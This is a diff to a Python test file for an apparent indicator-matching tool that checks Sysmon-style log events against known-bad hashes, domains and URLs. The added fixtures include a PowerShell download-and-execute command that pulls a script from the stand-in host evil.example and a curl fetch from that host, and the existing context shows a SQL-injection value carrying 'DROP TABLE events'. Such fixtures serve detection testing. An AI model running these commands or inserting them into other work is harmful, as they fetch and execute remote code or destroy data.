@@ -48,6 +48,12 @@ EVENTS = [
     ev(8, 1, CommandLine="x'); DROP TABLE events; -- http://nothing.example", Image="it's.exe"),
     ev(9, 15, Hash=f"SHA256={SHA256}", TargetFilename="C:\\drop.bin"),
     ev(10, 4624, channel="Security", IpAddress="-"),
+    ev(
+        11,
+        1,
+        CommandLine="powershell IEX (New-Object Net.WebClient).DownloadString('HTTP://evil.example/stage2.ps1');",
+    ),
+    ev(12, 1, CommandLine="curl http://evil.example/stage2.ps1.bak"),
 ]
 CSV = f"""type,value
 sha256,{SHA256}
@@ -84,6 +90,7 @@ def test_every_kind_matches_the_right_events(matched: tuple[duckdb.DuckDBPyConne
         (5, "c2.example", ("QueryName",)),
         (7, "http://evil.example/stage2.ps1", ("CommandLine",)),
         (9, SHA256, ("Hash",)),
+        (11, "http://evil.example/stage2.ps1", ("CommandLine",)),
     ]
 
 
